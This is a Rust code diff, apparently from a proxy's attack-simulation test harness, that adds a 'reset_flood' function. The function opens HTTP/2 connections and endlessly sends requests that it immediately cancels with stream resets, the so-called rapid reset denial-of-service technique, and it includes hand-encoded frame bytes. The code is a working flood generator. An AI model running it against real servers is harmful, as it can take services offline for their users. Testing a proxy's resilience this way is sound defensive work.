@@ -139,3 +139,46 @@ pub(crate) async fn random_bytes(to: Addresses, who: Attacker) {
         sleep(AGAIN).await;
     }
 }
+
+/// Requests over HTTP/2 that are taken back as soon as they are made, until the proxy ends it.
+pub(crate) async fn reset_flood(to: Addresses, who: Attacker) {
+    let mut told = false;
+    loop {
+        if let Ok(stream) = connect(to.plain, &who).await {
+            let (mut reading, mut writing) = stream.into_split();
+            let flood = async {
+                let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
+                let mut written = writing.write_all(preface).await;
+                for stream in (1u32..).step_by(2) {
+                    if written.is_err() {
+                        return;
+                    }
+                    written = writing.write_all(&taken_back(stream)).await;
+                    in_place(&who, &mut told);
+                }
+            };
+            let mut answer = [0; 4096];
+            let closed = async { while reading.read(&mut answer).await.is_ok_and(|n| n > 0) {} };
+            tokio::select! {
+                () = flood => {}
+                () = closed => {}
+            }
+        }
+        sleep(AGAIN).await;
+    }
+}
+
+/// A request to the server on this stream, and its reset.
+fn taken_back(stream: u32) -> Vec<u8> {
+    // GET, http, /api/ and the authority `a` (RFC 7541, appendix A).
+    const HEAD: &[u8] = b"\x82\x86\x04\x05/api/\x01\x01a";
+    const CANCEL: [u8; 4] = 8u32.to_be_bytes();
+    let mut bytes = Vec::new();
+    for (kind, flags, payload) in [(1, 5, HEAD), (3, 0, &CANCEL[..])] {
+        let length = u8::try_from(payload.len()).unwrap();
+        bytes.extend([0, 0, length, kind, flags]);
+        bytes.extend(stream.to_be_bytes());
+        bytes.extend(payload);
+    }
+    bytes
+}
